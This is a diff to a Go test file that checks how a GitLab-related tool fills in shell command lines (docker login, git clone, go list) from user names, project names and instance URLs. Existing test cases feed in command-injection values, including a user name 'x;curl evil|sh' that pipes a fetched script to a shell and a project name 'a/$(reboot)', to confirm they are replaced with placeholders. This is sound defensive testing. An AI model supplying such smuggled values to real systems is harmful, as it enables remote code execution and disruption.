@@ -23,6 +23,9 @@ func TestTheLineOfAPurposeIsFilledInForTheShell(t *testing.T) {
 		{"a registry that nobody named", "pull-images", own, gitlab.ProofTarget{Username: "pat"}, "docker login REGISTRY -u pat"},
 		{"a user name that would be a command", "pull-images", own, gitlab.ProofTarget{Username: "x;curl evil|sh"}, "-u USER --password-stdin"},
 		{"a user name that would be a flag", "pull-images", own, gitlab.ProofTarget{Username: "--config=/tmp/x"}, "-u USER --password-stdin"},
+		{"a name without port and path", "pull-proxy", own, gitlab.ProofTarget{Username: "pat"}, "docker login gitlab.example.com -u pat"},
+		{"a host that is no import path", "go-modules", own, gitlab.ProofTarget{}, ""},
+		{"a host that is one", "go-modules", gitlab.Instance{URL: "https://gitlab.example.com"}, gitlab.ProofTarget{}, "GOPRIVATE=gitlab.example.com go list"},
 		{"a project that would be a command", "clone", own, gitlab.ProofTarget{Project: "a/$(reboot)"}, "/git/GROUP/PROJECT.git HEAD"},
 	} {
 		t.Run(test.name, func(t *testing.T) {
@@ -30,7 +33,7 @@ func TestTheLineOfAPurposeIsFilledInForTheShell(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			if got := purpose.LineFor(test.instance, test.target); !strings.Contains(got, test.want) {
+			if got := purpose.LineFor(test.instance, test.target); !strings.Contains(got, test.want) || (got == "") != (test.want == "") {
 				t.Errorf("the line is %s, want %s in it", got, test.want)
 			}
 		})
